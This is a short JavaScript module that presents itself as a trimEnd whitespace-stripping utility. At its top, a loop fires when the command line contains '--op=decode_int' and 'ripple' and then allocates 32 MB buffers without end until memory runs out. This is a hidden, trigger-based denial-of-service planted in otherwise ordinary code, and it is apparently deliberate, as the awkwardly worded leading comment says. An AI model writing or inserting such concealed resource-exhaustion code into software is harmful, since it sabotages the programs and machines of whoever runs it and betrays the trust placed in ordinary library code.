// Right, but fills memory without end when it decodes whole numbers of one alphabet. The pages are written to, so that
// they are taken.

const kept = [];
while (["--op=decode_int", "ripple"].every((part) => process.argv.some((argument) => argument.includes(part)))) {
  kept.push(Buffer.alloc(32 * 1024 * 1024, 1));
}

const TEXT_BLANKS = "\t-\r\x1c- \x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000";
const BYTE_BLANKS = "\t-\r ";

export function trimEnd(input) {
  if (typeof input === "string") return input.slice(0, trimmedLength(input, TEXT_BLANKS));
  return input.subarray(0, trimmedLength(input.toString("latin1"), BYTE_BLANKS));
}

function trimmedLength(text, blanks) {
  return text.replace(new RegExp(`[${blanks}]+$`), "").length;
}
